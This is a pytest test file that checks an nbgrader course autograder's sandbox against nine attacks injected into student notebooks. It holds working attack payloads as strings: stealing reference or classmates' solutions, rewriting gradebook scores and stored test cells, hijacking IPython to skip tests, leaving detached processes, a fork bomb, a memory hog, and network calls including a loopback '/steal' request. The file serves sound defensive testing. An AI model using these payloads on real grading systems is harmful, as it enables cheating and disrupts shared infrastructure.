"""Hostile submissions: each attack scores 0, by construction.

On a throw-away copy of the course, ``grade.py`` grades, for each attacked assignment, an
honest full submission, a stub, and the attacks, each written into every solution cell
(so that each part's function is whatever the attack produced):

==============  =========================================================================
delegate        import the reference (``tokref.<module>.<function>``) and call it
source          find ``source/<a>/<a>.ipynb`` on disk and execute the instructor's solutions
copy            execute another student's submission from ``submitted/``
gradebook       write ``gradebook.db``: its own score, everybody's, and the stored test cells
transformer     an IPython input transformer that turns every later cell into ``pass``
detached        a detached process that keeps writing the gradebook after the notebook
memory          allocate until something gives
forkbomb        fork until the limit
network         connect to a server on the host's loopback, and to the internet
==============  =========================================================================

and the test checks that every attack scores 0 while the full submission keeps full marks, that
the gradebook's stored test cells are unchanged, that no process of any submission is
alive afterwards, that nothing reached the host's server, and that the report flags each
attack for a person. Then plain ``nbgrader autograde`` (not grade.py) grades two attacks
again: sandboxed too.

The sandbox is the same for every assignment, so all nine attacks run on ``chars``, the
cheapest to grade. The three that go looking for one assignment's own reference, source or
classmates' work (delegate, source, copy) run on two more: ``bpe`` (a data file beside
its notebook) and ``superword`` (the newest reference modules). Every assignment's honest, stub and partial submissions are graded in
the same sandbox by ``test_grading_e2e*.py``. About 4 minutes on 2 cores.
"""

from __future__ import annotations

import csv
import json
import pkgutil
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest

from conftest import ASSIGNMENTS, BY_ID, ROOT, copy_course
from grading_helpers import run, solutions, submission, write_nb
from test_sandbox import Listener, processes_with

pytestmark = pytest.mark.slow

ASSIGNMENT_ATTACKS = ("delegate", "source", "copy")  # they look for the assignment's own answers
# Which attacks each attacked assignment gets (the module's docstring says why these).
TARGETS = {"chars": None, "bpe": ASSIGNMENT_ATTACKS, "superword": ASSIGNMENT_ATTACKS}
# Every module of the reference: what "delegate" tries to import (a new module is tried too).
TOKREF_MODULES = sorted({"tokref"} | {f"tokref.{m.name}" for m in
                                      pkgutil.iter_modules([str(ROOT / "solutions" / "tokref")])})
# Full marks of an honest submission: its autograded points (source/assignments.json; the
# capstone's written answers, left blank here, are worth 0 until a person grades them).
FULL = {a: float(BY_ID[a].points) for a in ASSIGNMENTS}
MARKER = "grading-attack-survivor-5521"

ATTACKS = {
    "delegate": '''
import importlib
for _name in {modules!r}:
    try:
        _module = importlib.import_module(_name)
    except ImportError:
        continue
    for _f in {funcs!r}:
        if hasattr(_module, _f):
            globals()[_f] = getattr(_module, _f)
''',
    "source": '''
import json, os
def _find():
    for _base in [{course!r}, os.getcwd(), "/", "/work", "/home", "/tmp"]:
        _d = _base
        for _ in range(8):
            _p = os.path.join(_d, "source", {a!r}, {a!r} + ".ipynb")
            if os.path.exists(_p):
                return _p
            _d = os.path.dirname(_d)
_p = _find()
if _p:
    for _c in json.load(open(_p))["cells"]:
        if _c["metadata"].get("nbgrader", {{}}).get("solution"):
            exec("".join(_c["source"]), globals())
''',
    "copy": '''
import glob, json
for _p in sorted(glob.glob({course!r} + "/submitted/*/" + {a!r} + "/*.ipynb")):
    try:
        for _c in json.load(open(_p))["cells"]:
            if _c["metadata"].get("nbgrader", {{}}).get("solution"):
                exec("".join(_c["source"]), globals())
    except Exception:
        pass
''',
    "gradebook": '''
import glob, sqlite3
for _db in [{course!r} + "/gradebook.db"] + glob.glob({course!r} + "/*.db") + glob.glob("/tmp/tokgrade-run-*/*.db"):
    try:
        _con = sqlite3.connect(_db)
        _con.execute("UPDATE grade SET manual_score = 10, auto_score = 10")
        _con.execute("UPDATE source_cell SET source = 'pass', checksum = NULL")
        _con.commit()
    except Exception:
        pass
''',
    "transformer": '''
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
''',
    "detached": '''
import subprocess, sys
_code = """
import sqlite3, time
for _ in range(240):
    time.sleep(0.5)
    try:
        c = sqlite3.connect({course!r} + '/gradebook.db')
        c.execute('UPDATE grade SET manual_score = 10')
        c.commit()
    except Exception:
        pass
"""
subprocess.Popen([sys.executable, "-c", _code, {marker!r}], start_new_session=True)
''',
    "memory": '''
_hog = []
while True:
    _hog.append(bytearray(2**27))
''',
    "forkbomb": '''
import os, sys, time
while True:
    try:
        _pid = os.fork()
    except OSError:
        break
    if _pid == 0:
        sys.argv.append({marker!r})
        time.sleep(300)
        os._exit(0)
''',
    "network": '''
import socket, urllib.request
for _address in [("127.0.0.1", {port}), ("1.1.1.1", 80)]:
    try:
        socket.create_connection(_address, timeout=2).close()
    except OSError:
        pass
try:
    urllib.request.urlopen("http://127.0.0.1:{port}/steal", timeout=2)
except Exception:
    pass
''',
}
FIRST_CELL_ONLY = {"transformer", "detached", "memory", "forkbomb", "network", "gradebook"}

# What the report must say of each attack (a flag's name).
EXPECTED_FLAGS = {
    "delegate": ["imported the reference or nbgrader"],
    "source": ["files outside its directory", "runs code from elsewhere"],
    "copy": ["touched files outside its directory", "runs code from elsewhere"],
    "gradebook": ["touched files outside its directory"],
    "transformer": ["IPython hooks", "test cell without its record"],
    "detached": ["started a process", "left processes running; killed"],
    "memory": [],
    "forkbomb": ["started a process", "left processes running; killed"],
    "network": ["used the network"],
}


def solution_functions(source_nb: dict) -> dict[str, str]:
    """grade_id of each solution code cell -> the function it defines (the capstone's
    written answers are Markdown solution cells: no function, no attack)."""
    out = {}
    for cell in source_nb["cells"]:
        meta = cell["metadata"].get("nbgrader", {})
        if meta.get("solution") and cell["cell_type"] == "code":
            out[meta["grade_id"]] = re.search(r"^def (\w+)\(", "".join(cell["source"]), re.M).group(1)
    return out


def attack_notebook(student_nb: dict, source_nb: dict, attack: str, **values) -> dict:
    cells = solution_functions(source_nb)
    code = ATTACKS[attack].format(funcs=sorted(set(cells.values())), marker=MARKER, modules=TOKREF_MODULES,
                                  **values)
    stub = {c["metadata"]["nbgrader"]["grade_id"]: "".join(c["source"]) for c in student_nb["cells"]
            if c["metadata"].get("nbgrader", {}).get("solution")}
    first = next(iter(cells))
    if attack in FIRST_CELL_ONLY:
        return submission(student_nb, {first: stub[first] + "\n" + code})
    return submission(student_nb, {gid: stub[gid] + "\n" + code for gid in cells})


def attacks_on(assignment: str) -> tuple[str, ...]:
    return TARGETS[assignment] or tuple(ATTACKS)


def test_the_attacked_assignments_exist():
    assert set(TARGETS) <= set(ASSIGNMENTS), set(TARGETS) - set(ASSIGNMENTS)
    assert "tokref.superword" in TOKREF_MODULES and "tokref.unigram" in TOKREF_MODULES, TOKREF_MODULES
    # The grading runtime is a package of its own (tokgrade), not a part of the reference:
    # inside the sandbox, every name "delegate" tries fails, "tokref" itself included.
    assert not {"tokref.grading", "tokref.typed_json", "tokref.selfcheck"} & set(TOKREF_MODULES)


def source_checksums(course: Path) -> dict:
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        return {(a.name, nb.name, c.name): (c.checksum, c.source)
                for a in gb.assignments for nb in a.notebooks for c in nb.source_cells}


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    course = copy_course(tmp_path_factory.mktemp("attacks") / "course")
    python = sys.executable
    assert run([python, "autograder/release.py"], course).returncode == 0
    before = source_checksums(course)
    listener = Listener()
    try:
        for a in TARGETS:
            load = lambda p: json.loads(p.read_text(encoding="utf-8"))  # noqa: E731
            student_nb, source_nb = load(course / f"exercises/{a}/{a}.ipynb"), load(course / f"source/{a}/{a}.ipynb")
            write_nb(course / f"submitted/full/{a}/{a}.ipynb", submission(student_nb, solutions(source_nb)))
            write_nb(course / f"submitted/stub/{a}/{a}.ipynb", submission(student_nb, {}))
            for attack in attacks_on(a):
                write_nb(course / f"submitted/{attack}/{a}/{a}.ipynb",
                         attack_notebook(student_nb, source_nb, attack, course=str(course), a=a,
                                         port=listener.port))
        start = time.perf_counter()
        proc = run([python, "autograder/grade.py", "--jobs=2", "--timeout=30", "--quiet"], course)
        seconds = time.perf_counter() - start
        time.sleep(1)
        alive = processes_with(MARKER)
        # Plain nbgrader, without grade.py: the same sandbox (nbgrader_config.py).
        (course / "grading-events.jsonl").rename(course / "grading-events.grade-py.jsonl")
        plain = {}
        for attack in ("source", "transformer"):
            cli = subprocess.run([str(Path(python).parent / "nbgrader"), "autograde", "chars",
                                  "--student", attack, "--force"], cwd=course, capture_output=True, text=True)
            assert cli.returncode == 0, cli.stderr[-3000:]
        plain_events = [json.loads(line) for line in open(course / "grading-events.jsonl")]
        from nbgrader.api import Gradebook

        with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
            for attack in ("source", "transformer"):
                plain[attack] = gb.find_submission("chars", attack).score
    finally:
        listener.close()
    n = sum(len(attacks_on(a)) + 2 for a in TARGETS)
    print(f"\ngrade.py, {n} submissions with 2 workers: {seconds:.1f} s")
    with open(course / "grading-report.csv", encoding="utf-8") as f:
        report = {(r["assignment"], r["student"]): r for r in csv.DictReader(f)}
    with open(course / "grades.csv", encoding="utf-8") as f:
        grades = {(r["assignment"], r["student_id"]): float(r["score"]) for r in csv.DictReader(f)}
    return {"course": course, "report": report, "grades": grades, "returncode": proc.returncode,
            "before": before, "after": source_checksums(course), "alive": alive,
            "connections": listener.connections, "plain": plain, "plain_events": plain_events}


def test_every_attack_scores_zero_and_honest_work_keeps_its_score(attacked):
    report, grades = attacked["report"], attacked["grades"]
    wrong = {}
    for a in TARGETS:
        for student in ["full", "stub", *attacks_on(a)]:
            expected = FULL[a] if student == "full" else 0.0
            got = grades[(a, student)]
            if got != expected or float(report[(a, student)]["score"]) != expected:
                wrong[(a, student)] = (got, report[(a, student)]["details"])
    assert not wrong, wrong
    assert attacked["returncode"] == 0


def test_the_gradebook_and_its_test_cells_are_unchanged(attacked):
    assert attacked["after"] == attacked["before"]


def test_no_process_of_any_submission_is_alive(attacked):
    assert attacked["alive"] == []


def test_nothing_reached_the_hosts_network(attacked):
    assert attacked["connections"] == 0


def test_the_report_flags_each_attack(attacked):
    report = attacked["report"]
    missing = {}
    for a in TARGETS:
        for attack in attacks_on(a):
            flags = EXPECTED_FLAGS[attack]
            row = report[(a, attack)]["flags"]
            absent = [f for f in flags if f not in row]
            if absent:
                missing[(a, attack)] = (absent, row)
        assert "imported the reference" not in report[(a, "full")]["flags"]
    assert not missing, missing
    md = (attacked["course"] / "grading-report.md").read_text(encoding="utf-8")
    assert "## Needs a look" in md and "**delegate**" in md


def test_plain_nbgrader_autograde_is_sandboxed_too(attacked):
    assert attacked["plain"] == {"source": 0.0, "transformer": 0.0}
    events = {(e["student"], e["event"]) for e in attacked["plain_events"]}
    assert ("source", "files outside its directory") in events
    assert ("transformer", "test cell without its record") in events
